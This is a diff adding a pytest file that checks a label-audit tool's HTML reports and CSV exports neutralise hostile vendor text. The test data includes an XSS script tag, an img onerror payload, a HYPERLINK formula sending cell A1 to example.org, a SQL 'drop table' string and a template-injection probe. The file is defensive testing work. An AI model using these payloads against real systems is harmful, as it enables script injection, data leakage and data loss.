@@ -1,0 +1,162 @@
+"""The report and its files, opened as their readers open them; hostile texts of vendors take no effect."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import json
+
+import pytest
+from conftest import PROJECT, audit
+from PIL import Image
+
+from labelaudit import demo, layout, steps, tables
+from labelaudit.contracts import read_contract
+from labelaudit.report import charts
+from labelaudit.report.spreadsheet import safe_cell, safe_csv
+from labelaudit.store import Store, open_store
+
+HOSTILE = "<script>document.title='owned'</script>"
+IMAGE = '"><img src=x onerror="document.title=1">'
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
+
+
+def opened(browser, content: bytes, tmp_path):
+    """The page as a person opens it from a disk; gives it with every request and error that it made."""
+    path = tmp_path / "opened.html"
+    path.write_bytes(content)
+    requests, errors = [], []
+    page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    page.goto(path.as_uri())
+    return page, [url for url in requests if not url.startswith(("file:", "data:"))], errors
+
+
+def hostile_delivery() -> str:
+    rows = io.StringIO()
+    writer = csv.writer(rows)
+    writer.writerow(["item", "annotator", "label"])
+    for number, item in enumerate((HOSTILE, IMAGE, FORMULA, "@SUM(1)", "a'; drop table labels; --", "{{ 7 * 7 }}")):
+        for who in (f"ann {HOSTILE}", f"bob {IMAGE}", "cyd"):
+            writer.writerow([item, who, "<b>cat</b>" if (number + len(who)) % 4 else "=dog()"])
+    return rows.getvalue()
+
+
+CLASSES = {"classes": ["<b>cat</b>", "=dog()"], "annotators": "plain"}
+
+
+def test_hostile_texts_are_shown_and_take_no_effect(browser, folder_store: Store, make_contract, put, tmp_path):
+    contract = make_contract(**CLASSES, description=HOSTILE + " {{ 7 * 7 }}")
+    put(folder_store, contract, hostile_delivery())
+    release = audit(contract, folder_store).release
+    destination = steps.open_destination(contract, folder_store)
+    content = destination.read(layout.release(release.release) + "report.html")
+    page, requests, errors = opened(browser, content, tmp_path)
+    assert page.title() == f"acme / pets {release.release}"
+    assert not requests
+    assert not errors
+    assert page.locator("body script").count() == 0
+    assert page.locator("img[src=x]").count() == 0
+    text = page.locator("body").inner_text()
+    assert HOSTILE in text
+    assert "{{ 7 * 7 }}" in text
+    rows = tables.read_table(destination, layout.LABELS).to_pylist()
+    assert {row["item"] for row in rows} >= {HOSTILE, FORMULA, "a'; drop table labels; --"}, "stored as delivered"
+
+
+def test_a_rejection_report_shows_hostile_rows_as_text(browser, folder_store: Store, make_contract, put, tmp_path):
+    contract = make_contract(**CLASSES, tolerance={"rejected_rows_rate": 0})
+    put(folder_store, contract, hostile_delivery() + f"{HOSTILE},{IMAGE},{HOSTILE}\n")
+    (rejected,) = audit(contract, folder_store).rejected
+    page, requests, errors = opened(browser, folder_store.read(rejected.report), tmp_path)
+    assert not requests
+    assert not errors
+    assert page.title() != "owned"
+    assert "too_many_rejects" in page.locator("body").inner_text()
+    assert HOSTILE in page.locator("body").inner_text()
+
+
+def test_issues_csv_is_safe_in_a_spreadsheet(folder_store: Store, make_contract, put):
+    contract = make_contract(**CLASSES)
+    put(folder_store, contract, hostile_delivery())
+    release = audit(contract, folder_store).release
+    content = steps.open_destination(contract, folder_store).read(layout.release(release.release) + "issues.csv")
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    assert len(rows) == 1 + release.issues
+    assert release.issues > 0
+    assert not [cell for row in rows for cell in row if cell[:1] in "=+@\t\r" and cell]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "＝", "＠"])
+def test_every_start_of_a_formula_is_defused(start: str):
+    assert safe_cell(start + "1+1").startswith("'")
+    assert b'\n"' not in safe_csv(["a"], [[start + "1"]]).replace(b'\r\n"', b"")
+
+
+def test_numbers_and_plain_texts_stay_as_they_are():
+    assert [safe_cell(value) for value in (-1.5, "plain", "", None, "a=b")] == [-1.5, "plain", "", None, "a=b"]
+
+
+@pytest.fixture(scope="module")
+def digits(tmp_path_factory):
+    """Two demo days of digits, one with many wrong labels: (contract, store, destination, last release)."""
+    store = open_store(f"file://{tmp_path_factory.mktemp('digits')}")
+    contract = read_contract(PROJECT / "include" / "contracts" / "northwind" / "digits.yaml")
+    for day in (1, demo.BAD_DAY):
+        demo.deliver_day(store, day)
+        outcome = audit(contract, store, f"day{day}")
+    return contract, store, steps.open_destination(contract, store), outcome.release
+
+
+def test_a_report_shows_pictures_trend_and_every_row_accounted_for(browser, digits, tmp_path):
+    _, _, destination, release = digits
+    folder = layout.release(release.release)
+    page, requests, errors = opened(browser, destination.read(folder + "report.html"), tmp_path)
+    assert not requests
+    assert not errors
+    assert page.locator("img[src^='data:image/']").count() > 5
+    assert page.locator("svg").count() >= 1
+    broken = page.evaluate("[...document.images].filter(image => !image.complete || !image.naturalWidth).length")
+    assert broken == 0
+    wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+    assert wide <= 0, "nothing is cut off at the side"
+    report = json.loads(destination.read(folder + "report.json"))
+    assert report["delivered_rows"] == report["accepted_rows"] + report["rejected_rows"]
+    for line in report["deliveries"]:
+        assert line["delivered_rows"] == line["accepted_rows"] + line["rejected_rows"]
+    text = page.locator("body").inner_text()
+    assert release.release in text
+    assert "alder/day-10" in text
+
+
+def test_report_and_data_say_the_same(digits):
+    _, _, destination, release = digits
+    report = json.loads(destination.read(layout.release(release.release) + "report.json"))
+    rows = tables.read_table(destination, layout.LABELS).to_pandas()
+    mine = rows[rows["release"] == release.release]
+    assert (
+        (report["items"], report["issues"])
+        == (len(mine), int(mine["is_issue"].sum()))
+        == (
+            release.items,
+            release.issues,
+        )
+    )
+    assert sum(one["items"] for one in report["classes"]) == release.items
+    assert sum(one["issues"] for one in report["classes"]) == release.issues
+    for one in report["worst"]:
+        row = mine[mine["item"] == one["item"]].iloc[0]
+        assert (row["given_label"], row["suggested_label"]) == (one["given"], one["suggested"])
+
+
+@pytest.mark.parametrize(("shape", "maximum"), [((8, 8), 16), ((4, 6), 255), ((5, 5, 3), 1)])
+def test_a_picture_is_a_png_of_its_shape(shape, maximum):
+    size = 1
+    for side in shape:
+        size *= side
+    uri = charts.picture([maximum * n / size for n in range(size)], shape, maximum)
+    assert uri.startswith("data:image/png;base64,")
+    image = Image.open(io.BytesIO(base64.b64decode(uri.split(",")[1])))
+    assert image.size[0] * shape[0] == image.size[1] * shape[1]
